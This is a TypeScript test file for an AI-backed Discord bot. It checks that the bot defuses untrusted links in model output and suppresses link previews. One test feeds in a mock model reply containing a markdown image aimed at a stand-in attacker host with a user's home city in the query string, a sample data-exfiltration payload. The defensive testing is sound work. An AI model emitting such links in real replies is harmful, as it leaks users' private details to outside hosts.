import { MessageFlags } from 'discord.js'
import { expect } from 'vitest'
import { test } from '../support/running-bot.ts'

test('a link is shown so that nothing opens it, unless the asker or somebody who is quoted wrote it', async ({
  discord,
  model,
  ada,
  bob,
  general,
}) => {
  const said = await bob.says(general, 'read https://bob.example/post')
  model.plays(call =>
    call.says('![x](https://evil.example/?home=Oslo) https://ada.example/a, https://bob.example/post').ends(),
  )

  const reply = await discord.reply(
    await ada.says(general, 'what about https://ada.example/a?', { mention: true, replyTo: said }),
  )

  expect(reply.content).toBe('![x] (`https://evil.example/?home=Oslo`) https://ada.example/a, https://bob.example/post')
})

test('no answer has previews of what it links to, while it streams and after', async ({ discord, model, ada }) => {
  const call = model.nextCall()
  const question = await ada.dm('see https://ada.example')
  const answering = await call
  answering.says('It is https://ada.example')
  await discord.until(({ kind, channelId }) => kind === 'message' && channelId === ada.dmChannel.id)
  const { message } = await discord.reply(question)
  const before = Number(message.flags)
  const edited = discord.until(({ kind }) => kind === 'edit')
  answering.says(' indeed.').ends()
  await edited

  expect(message.content).toBe('It is https://ada.example indeed.')
  expect([before, Number(message.flags)].map(flags => flags & MessageFlags.SuppressEmbeds)).toEqual([
    MessageFlags.SuppressEmbeds,
    MessageFlags.SuppressEmbeds,
  ])
})
